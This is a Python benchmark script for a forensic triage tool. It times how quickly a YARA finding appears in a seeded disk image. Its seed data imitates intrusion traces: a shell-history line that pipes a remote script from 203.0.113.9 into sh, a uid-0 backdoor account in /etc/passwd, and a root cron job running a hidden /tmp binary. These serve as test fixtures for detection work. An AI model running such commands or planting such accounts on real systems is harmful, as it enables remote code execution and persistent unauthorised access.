"""Time to first finding: a triage profile versus no profile versus the CLI tools.

The shared benchmark image (``bench/_images.py``) gets a few files seeded in the paths of the
``linux-server`` profile (``/var/log/auth.log``, ``/var/log/syslog``, ``/var/log/nginx/access.log``,
``/var/spool/cron/crontabs/root``; with ``--early`` also ``/etc/passwd`` and
``/home/alice/.bash_history``), each holding a string that one YARA rule matches. Nothing else
in the image matches it. In the same run, this script times:

1. ``triage scan IMG --yara-rules seed.yar --profile linux-server`` (hashes, file types, YARA);
2. the same scan without a profile (files in inventory order);
3. ``tsk_recover -e`` followed by ``yara -r`` (the reference: no finding before extraction ends).

Time to first finding is from the start of the command until a YARA finding can be read from
the case database by another process (what the GUI sees), polled every 50 ms. Each scan is
stopped (SIGINT: graceful, results kept) as soon as its first finding is visible.

    .venv/bin/python bench/first_finding.py                              # 50,000 files, 2 GB
    .venv/bin/python bench/first_finding.py --min-files 12000 --min-bytes 3e8
"""

from __future__ import annotations

import argparse
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _images import benchmark_image, describe  # noqa: E402

MARK = "TRIAGE-BENCH-SEED-7f3a91"
RULE = f'rule triage_bench_seed {{ strings: $a = "{MARK}" condition: $a }}\n'
LATE_SEEDS = {  # /var sorts after /usr in the image's walk order: a scan without a profile meets them last
    "/var/log/auth.log": (
        f"Nov 27 03:12:44 srv sshd[811]: Accepted password for mallory from 203.0.113.9 "
        f"port 50122 ssh2 {MARK}\n"
    ).encode()
    * 50,
    "/var/log/nginx/access.log": (
        f'203.0.113.9 - - [27/Nov/2026:03:10:01 +0000] "GET /{MARK} HTTP/1.1" 404 0\n'
    ).encode()
    * 20,
    "/var/log/syslog": f"Nov 27 03:13:02 srv CRON[902]: (root) CMD (/tmp/.x/{MARK})\n".encode() * 10,
    "/var/spool/cron/crontabs/root": f"*/5 * * * * /tmp/.x/{MARK} >/dev/null 2>&1\n".encode(),
}
EARLY_SEEDS = {  # /etc and /home come before /usr: the walk order alone finds these first
    "/etc/passwd": (
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
        f"mallory:x:0:0:{MARK}:/root:/bin/bash\n"
    ).encode(),
    "/home/alice/.bash_history": f"ls -la\ncurl -s http://203.0.113.9/x.sh | sh  # {MARK}\n".encode(),
    **LATE_SEEDS,
}
TRIAGE = [sys.executable, "-m", "triage"]


def first_finding_in(db: Path) -> bool:
    if not db.exists():
        return False
    try:
        con = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=0.05)
        try:
            return con.execute("SELECT 1 FROM findings WHERE plugin='yara' LIMIT 1").fetchone() is not None
        finally:
            con.close()
    except sqlite3.Error:
        return False


def triage_run(image: Path, rules: Path, case: Path, workers: int, profile: str | None) -> dict[str, float]:
    cmd = [
        *TRIAGE,
        "scan",
        str(image),
        "--case",
        str(case),
        "--workers",
        str(workers),
        "--analyzers",
        "hashes,filetype,yara",
        "--yara-rules",
        str(rules),
        "--json",
    ]
    if profile:
        cmd += ["--profile", profile]
    t0 = time.monotonic()
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    db = case / "case.sqlite"
    first = None
    while proc.poll() is None:
        if first_finding_in(db):
            first = time.monotonic() - t0
            proc.send_signal(signal.SIGINT)
            break
        time.sleep(0.05)
    proc.wait()
    if first is None and first_finding_in(db):
        first = time.monotonic() - t0
    if first is None:
        raise SystemExit(f"no finding at all: {' '.join(cmd)}")
    return {"first": first, "stopped": time.monotonic() - t0}


def scan_order_position(case: Path, seeds: dict[str, bytes]) -> tuple[int, int]:
    """(inventory position of the first seeded file, regular files) — where a scan without a profile meets it."""
    con = sqlite3.connect(f"file:{case / 'case.sqlite'}?mode=ro", uri=True)
    rows = [r[0] for r in con.execute("SELECT path FROM files WHERE type='r' ORDER BY id")]
    con.close()
    pos = min(i for i, p in enumerate(rows, 1) if p in seeds)
    return pos, len(rows)


def reference_run(image: Path, rules: Path, work: Path) -> dict[str, float]:
    """tsk_recover -e, then yara -r: time until yara prints its first match."""
    out = work / "recovered"
    t0 = time.monotonic()
    subprocess.run(["tsk_recover", "-e", str(image), str(out)], check=True, capture_output=True)
    extracted = time.monotonic() - t0
    proc = subprocess.Popen(
        ["yara", "-r", "-p", "2", str(rules), str(out)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None
    line = proc.stdout.readline()
    first = time.monotonic() - t0
    proc.kill()
    proc.wait()
    if not line:
        raise SystemExit("yara found nothing in the extracted files")
    shutil.rmtree(out, ignore_errors=True)
    return {"first": first, "extracted": extracted}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--min-files", type=int, default=50000)
    ap.add_argument("--min-bytes", type=float, default=2e9)
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 2)
    ap.add_argument("--profile", default="linux-server")
    ap.add_argument("--no-reference", action="store_true", help="skip tsk_recover + yara")
    ap.add_argument(
        "--early",
        action="store_true",
        help="also seed /etc/passwd and a shell history, which the walk reaches first anyway",
    )
    args = ap.parse_args()

    seeds = EARLY_SEEDS if args.early else LATE_SEEDS
    image = benchmark_image(
        args.min_files, args.min_bytes, extra=seeds, variant="seeded" if args.early else "seeded-var"
    )
    info = describe(image)
    print(
        f"image: {image} ({info['files']} files, {int(info['bytes']) / 1e9:.2f} GB of content); "
        f"{len(seeds)} seeded files in {args.profile} paths"
    )
    subprocess.run(
        ["cat", str(image)], stdout=subprocess.DEVNULL, check=True
    )  # warm the page cache for all runs
    with tempfile.TemporaryDirectory(prefix="ttff-", dir=image.parent) as tmp:
        work = Path(tmp)
        rules = work / "seed.yar"
        rules.write_text(RULE)
        with_profile = triage_run(image, rules, work / "profile", args.workers, args.profile)
        print(f"triage --profile {args.profile}: first finding after {with_profile['first']:.2f} s")
        without = triage_run(image, rules, work / "none", args.workers, None)
        pos, total = scan_order_position(work / "none", seeds)
        print(
            f"triage, no profile:          first finding after {without['first']:.2f} s "
            f"(first seeded file is #{pos} of {total} regular files in inventory order)"
        )
        ratio = with_profile["first"] / without["first"]
        print(f"ratio profile / no profile: {ratio:.3f} (target <= 0.10)")
        if not args.no_reference and shutil.which("tsk_recover") and shutil.which("yara"):
            ref = reference_run(image, rules, work)
            print(
                f"tsk_recover -e + yara -r:    first finding after {ref['first']:.2f} s "
                f"(extraction {ref['extracted']:.2f} s)"
            )
            print(f"ratio profile / reference: {with_profile['first'] / ref['first']:.3f}")


if __name__ == "__main__":
    main()
